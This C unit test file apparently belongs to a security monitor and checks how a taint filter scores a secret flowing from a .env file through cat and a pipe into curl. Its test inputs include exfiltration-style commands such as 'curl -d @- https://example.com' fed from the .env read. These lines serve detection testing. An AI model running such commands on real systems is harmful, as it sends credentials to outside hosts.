/* SPDX-License-Identifier: MPL-2.0 */
/* What the filter taint makes of a known way of a secret: never less than without it. */
#include <criterion/criterion.h>
#include <string.h>

#include "lib/flow/flow.h"
#include "test_score_table.h"

static struct flow_chain chain_to(enum flow_how how, const char *object)
{
	return (struct flow_chain) {
		.source = GRITH_SOURCE_MEDIUM,
		.since = 1,
		.direct = how != FLOW_STARTED,
		.n_steps = 2,
		.steps = { { 1, FLOW_READ, 12, "/bin/cat", "/p/.env" },
			   { 2, how, 13, "/usr/bin/curl", object } },
	};
}

/* The operation's part of the filter, 0 where there is none, and the total. */
static int judge(const char *text, const struct flow_chain *chain, char *ret_why, int *ret_total)
{
	CLEANUP(score_weights_freep) struct score_weights *weights = table_weights();
	CLEANUP(score_session_freep) struct score_session *session = score_session_new();
	struct table_operation o;
	struct score score;

	table_read(text, text, &o);
	o.operation.time = 1000;
	o.operation.flow = chain;
	score_evaluate(weights, session, &o.operation, &score);
	*ret_total = score.total;
	for (size_t i = 0; i < score.n_parts; i++)
		if (score.parts[i].filter == FILTER_TAINT) {
			strcpy(ret_why, score.parts[i].why);
			return score.parts[i].score;
		}
	*ret_why = '\0';
	return 0;
}

static void expect(const char *text, struct flow_chain chain, int points, const char *why)
{
	char plain_why[SCORE_WHY_MAX], flow_why[SCORE_WHY_MAX];
	int plain_total, total, plain = judge(text, NULL, plain_why, &plain_total);

	cr_expect_eq(judge(text, &chain, flow_why, &total), points, "%s", text);
	cr_expect_str_eq(flow_why, why, "%s", text);
	cr_expect_eq(total - plain_total, points - plain, "%s", text);
	cr_expect_geq(total, plain_total, "%s", text);
}

Test(score_flow, a_program_that_sends)
{
	expect("$ curl -d @- https://example.com", chain_to(FLOW_READ, "pipe:[77]"), 300,
	       "this very process has it: .env -> cat[12] -> pipe -> curl[13]");
	expect("$ curl -d hunter2 https://example.com", chain_to(FLOW_STARTED, "/bin/cat"), 300,
	       "this process may have it: .env -> cat[12] -> curl[13]");
	/* what does not send is not doubted for what it was given */
	expect("$ grep -c x", chain_to(FLOW_READ, "pipe:[77]"), 0, "");
	/* but for what it names */
	expect("$ cp /p/copy /tmp", chain_to(FLOW_NAMED, "/p/copy"), 300,
	       "this very process has it: .env -> cat[12] -> copy -> curl[13]");
}

Test(score_flow, a_connection)
{
	struct flow_chain high = chain_to(FLOW_READ, "pipe:[77]");

	expect("connect example.com 443", chain_to(FLOW_READ, "pipe:[77]"), 300,
	       "this very process has it: .env -> cat[12] -> pipe -> curl[13]");
	high.source = GRITH_SOURCE_HIGH;
	expect("connect example.com 443", high, 500,
	       "this very process has it: .env -> cat[12] -> pipe -> curl[13]");
	/* what the kernel has added is explained, and not added again */
	expect("connect example.com 443 context=3 filters=taint", chain_to(FLOW_READ, "pipe:[77]"),
	       300, "this very process has it: .env -> cat[12] -> pipe -> curl[13]");
	expect("connect example.com 443 context=5 filters=taint", chain_to(FLOW_READ, "pipe:[77]"),
	       500, "this very process has it: .env -> cat[12] -> pipe -> curl[13]");
	expect("connect 127.0.0.1 443", chain_to(FLOW_READ, "pipe:[77]"), 0, "");
}

Test(score_flow, a_long_way_fits_the_reason)
{
	char name[200] = "/p/", why[SCORE_WHY_MAX];
	struct flow_chain chain = chain_to(FLOW_READ, name);
	int total;

	memset(name + 3, 'x', sizeof(name) - 4);
	for (chain.n_steps = 2; chain.n_steps < FLOW_CHAIN_MAX; chain.n_steps++)
		chain.steps[chain.n_steps] = chain.steps[1];
	cr_expect_eq(judge("connect example.com 443", &chain, why, &total), 300);
	cr_expect(!strncmp(why, "this very process has it: .env -> ... -> ", 41), "%s", why);
	cr_expect_str_eq(why + strlen(why) - 11, "-> curl[13]", "%s", why);
}
